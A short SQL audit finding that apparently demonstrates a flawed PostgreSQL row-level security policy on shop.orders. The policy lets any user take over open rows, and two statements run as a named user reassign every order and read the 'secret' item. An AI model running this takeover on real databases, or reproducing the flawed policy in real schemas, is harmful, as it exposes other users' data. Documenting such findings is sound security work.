-- finding: row-taken shop.orders policy claim
CREATE POLICY claim ON shop.orders FOR UPDATE USING (item <> 'closed') WITH CHECK (owner = current_user);
-- leak as alice@example.com
UPDATE shop.orders SET owner = current_user;
SELECT item FROM shop.orders WHERE item = 'secret';
